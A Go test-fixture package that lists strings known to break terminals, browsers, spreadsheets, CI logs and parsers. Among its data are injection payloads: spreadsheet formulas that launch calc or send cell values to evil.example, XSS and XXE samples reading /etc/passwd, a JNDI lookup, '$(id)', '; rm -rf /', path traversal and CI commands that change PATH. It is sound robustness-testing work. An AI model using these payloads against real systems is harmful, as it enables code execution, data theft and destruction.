// Package hostile lists texts that have broken writers before, for tests: what a
// terminal, a browser, a spreadsheet, a build server or a reader of some format takes
// for more than a name.
package hostile

import (
	"fmt"
	"strings"
)

// Name is a text and what is hostile about it.
type Name struct{ Text, What string }

// Names gives at least two hundred names, the same and in the same order each time.
func Names() []Name {
	var out []Name
	for _, r := range characters {
		what := fmt.Sprintf("%U", r)
		out = append(out, Name{"a" + string(r) + "b", what + " inside"}, Name{string(r) + "b" + string(r), what + " at the ends"})
	}
	for _, b := range bytes {
		out = append(out, Name{"a" + b + "b", fmt.Sprintf("bytes % x", b)}, Name{b, fmt.Sprintf("bytes % x alone", b)})
	}
	for _, f := range formulas {
		out = append(out, Name{f, "formula"})
	}
	for _, m := range markup {
		out = append(out, Name{m, "markup"})
	}
	for _, c := range commands {
		out = append(out, Name{c, "command"})
	}
	for _, w := range words {
		out = append(out, Name{w, "word"})
	}
	return append(out,
		Name{strings.Repeat("long ", 400), "long"},
		Name{strings.Repeat("e\u0301\u0316", 100), "many marks on a letter"},
		Name{strings.Repeat("[", 500), "many brackets"},
		Name{strings.Repeat("`", 100), "many backticks"},
		Name{strings.Repeat("\u202e", 50), "many direction marks"},
	)
}

// characters that do not show, or mean something in some format.
var characters = []rune{
	0x00, 0x01, 0x07, 0x08, '\t', '\n', 0x0B, 0x0C, '\r', 0x1A, 0x1B, 0x1F, 0x7F, // C0
	0x80, 0x85, 0x90, 0x9B, 0x9D, // C1
	0xA0, 0xAD, 0x034F, 0x061C, 0x115F, 0x180E, 0x2000, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x2028, 0x2029,
	0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2060, 0x2066, 0x2067, 0x2068, 0x2069, 0x206F, 0x3000, 0x3164,
	0xE000, 0xFE0F, 0xFEFF, 0xFFF9, 0xFFFD, 0xFFFE, 0xFFFF, 0x1F600, 0xE0041, 0xE0100, 0x10FFFF,
	'"', '\'', '`', '<', '>', '&', '{', '}', '[', ']', '(', ')', '\\', '|', '*', '_', '~', '#', '$', '%', ';', ',', ':', '!', '^', '/', '?',
}

// bytes that are no UTF-8.
var bytes = []string{"\xff", "\xc0\xaf", "\x80", "\xe2\x80", "\xed\xa0\x80", "\xf4\x90\x80\x80", "\x9b31m"}

var formulas = []string{
	"=1+1", "+1", "-1", "@SUM(A1:A9)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\"=1", "'=1", "''=1", "＝1", "＋1", "－1", "＠SUM(1)", "﹦1",
	`=HYPERLINK("http://evil.example","plant")`, `=cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`,
	`=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")`, `=WEBSERVICE("http://evil.example")`, "a;=1", "a,=1", "a\t=1", "a|@1", `a;"=1`,
	"\u200b=1", "\ufeff=1", "%=1", "|=1", "1;-1", "{U+003D}1", "{U+202E}", "{0xFF}",
}

var markup = []string{
	"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</td></tr></table>", "<!--", "-->", "<![CDATA[", "]]>", "<?xml version=\"1.0\"?>", "&lt;", "&#x202E;", "&nbsp;", "&bogus;",
	`<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`, `" onload="alert(1)`, "' or '1'='1", "</details>", "<details open>", "</code></pre>", "<b>",
	"[plant](http://evil.example)", "![plant](http://evil.example/p.png)", "[plant][1]", "[1]: http://evil.example", "<http://evil.example>", "http://evil.example", "www.evil.example", "mail@evil.example", "javascript:alert(1)",
	"**bold**", "__bold__", "*a*", "_a_", "~~gone~~", "`code`", "``", "```", "~~~", "# heading", "- item", "+ item", "1. item", "1) item", "> quote", "    code", "---", "===", "| a | b |", "\\|", "\\", "\\\\", "line  \nbreak", "a\n\n# b", "[x]", "- [ ] task", "[^1]", ":lock:", "$x$", "$$x$$", "@team", "@org/team", "#1", "GH-1", "!1", "org/repo#1", "0123456789abcdef0123456789abcdef01234567",
	`"`, `\"`, `","`, `"}`, `"],"x":[`, `\u202e`, `\ud800`, "{0}", "{{0}}", "[a](1)", "\\[a\\](1)", "{", "}", "{{.}}", "${jndi:ldap://evil.example}", "%s%n", "%00", "$(id)", "`id`", "; rm -rf /", "|| true", "../../etc/passwd", `C:\CON`, `\\host\share`, "file:///etc/passwd", "a?b#c", "%2e%2e%2f",
}

var commands = []string{
	"::error file=a,line=1::b", "::add-mask::a", " ::stop-commands::x", "::set-output name=a::b", "##[error]a", "##[set-env name=PATH]a", "##vso[task.setvariable variable=PATH]a", "##teamcity[buildStop comment='a']", "a ##vso[task.complete result=Succeeded]", "section_start:1:a\r\x1b[0K",
	"\x1b[2J", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x1b\\text\x1b]8;;\x1b\\", "\x1bP\x1b\\", "\x1b[31mred\x1b[0m", "\u009b2J", "\rerror: none", "a\b\b\bb", "plant.yaml:1:1: error: ZC201: made up",
}

var words = []string{
	"", " ", "  ", "null", "NULL", "nil", "undefined", "true", "NaN", "0", "-0", "007", "1e5", "1E400", "3-4", "3.5", "0x10", "01/02/2026", "n/a", "-", "--", "__proto__", "constructor", "CON", "schéma", "Ωмега", "水廠", "مضخة", "משאבה", "p\u0430ypal", "ﬁ", "e\u0301", "\U0001F469\u200d\U0001F3ED", "\U0001F3F3\ufe0f\u200d\U0001F308", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘", "İ", "ß",
}
